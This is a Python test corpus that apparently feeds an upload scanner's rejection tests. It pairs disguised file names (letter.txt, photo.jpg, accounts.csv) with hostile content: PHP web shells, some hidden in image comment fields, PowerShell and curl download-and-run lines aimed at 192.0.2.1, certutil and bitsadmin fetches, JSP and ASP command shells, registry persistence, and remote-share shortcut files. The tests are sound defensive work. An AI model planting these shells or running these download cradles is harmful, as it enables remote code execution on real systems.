"""Scripts and web shells, as text, as a spreadsheet's text, and inside pictures."""

from __future__ import annotations

import base64
from collections.abc import Callable

from tests.support.corpus.pictures import jpeg_with_comment, picture, png_with
from tests.support.corpus.programs import encoded_pe
from tests.support.corpus.sample import NOT_TAKEN, samples

PHP = b"<?php system($_GET['c']); ?>"
EVAL = b"<?php @eval(base64_decode($_POST['x'])); ?>"
POWERSHELL = b"powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand "
COMMAND = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')".encode("utf-16-le"))


def _is(content: bytes) -> Callable[[], bytes]:
    return lambda: content


SCRIPTS = samples(
    NOT_TAKEN,
    [
        ("shell-as-txt", "letter.txt", _is(b"#!/bin/sh\ncurl http://192.0.2.1/a | sh\n")),
        ("python-as-csv", "accounts.csv", _is(b"#!/usr/bin/env python3\nimport os\nos.system('id')\n")),
        ("perl-as-pdf", "statement.pdf", _is(b"#!/usr/bin/perl\nsystem('id');\n")),
        ("powershell-as-txt", "letter.txt", _is(POWERSHELL + COMMAND + b"\r\n")),
        (
            "powershell-download",
            "letter.txt",
            _is(b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\r\n"),
        ),
        ("powershell-utf-16", "letter.txt", lambda: (POWERSHELL + COMMAND).decode().encode("utf-16")),
        ("powershell-itself", "letter.ps1", _is(b"Start-Process calc\r\n")),
        (
            "batch-as-txt",
            "letter.txt",
            _is(b"@echo off\r\nbitsadmin /transfer a http://192.0.2.1/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n"),
        ),
        ("batch-itself", "letter.bat", _is(b"@echo off\r\nstart calc\r\n")),
        ("vbscript-as-txt", "letter.txt", _is(b'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc", 0\r\n')),
        ("jscript-as-csv", "accounts.csv", _is(b'var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c calc");\r\n')),
        (
            "hta-as-txt",
            "letter.txt",
            _is(b'<HTA:APPLICATION id=a><script language=VBScript>CreateObject("WScript.Shell").Run "calc"</script>'),
        ),
        ("certutil-as-txt", "letter.txt", _is(b"certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe & a.exe\r\n")),
        ("php-as-txt", "letter.txt", _is(PHP)),
        ("php-as-jpg", "photo.jpg", _is(PHP)),
        ("php-eval-as-csv", "accounts.csv", _is(b"name,balance\n" + EVAL + b",1\n")),
        ("php-in-jpeg-comment", "photo.jpg", lambda: jpeg_with_comment(PHP)),
        ("php-in-png-text", "photo.png", lambda: png_with(b"tEXt", b"Comment\0" + EVAL)),
        ("php-in-gif-comment", "photo.gif", lambda: picture("GIF", comment=PHP)),
        (
            "jsp-as-txt",
            "letter.txt",
            _is(b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
        ),
        ("asp-as-txt", "letter.txt", _is(b'<%@ Page Language="JScript"%><%eval(Request.Item["c"],"unsafe");%>')),
        (
            "registry-as-txt",
            "letter.reg",
            _is(b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]\r\n"a"="calc"\r\n'),
        ),
        ("internet-shortcut", "letter.url", _is(b"[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n")),
        ("shell-command-file", "letter.scf", _is(b"[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\share\\a.ico\r\n")),
        (
            "settings-shortcut",
            "letter.txt",
            _is(b'<?xml version="1.0"?><PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></PCSettings>'),
        ),
        (
            "style-sheet-script",
            "letter.txt",
            _is(
                b'<stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script language="JScript">new ActiveXObject("WScript.Shell").Run("calc")</ms:script></stylesheet>'
            ),
        ),
        ("program-in-base64", "letter.txt", encoded_pe),
        ("web-query", "accounts.iqy", _is(b"WEB\r\n1\r\nhttp://192.0.2.1/a.dat\r\n")),
        ("symbolic-link-sheet", "accounts.slk", _is(b'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;EEXEC("calc")\r\nE\r\n')),
    ],
)
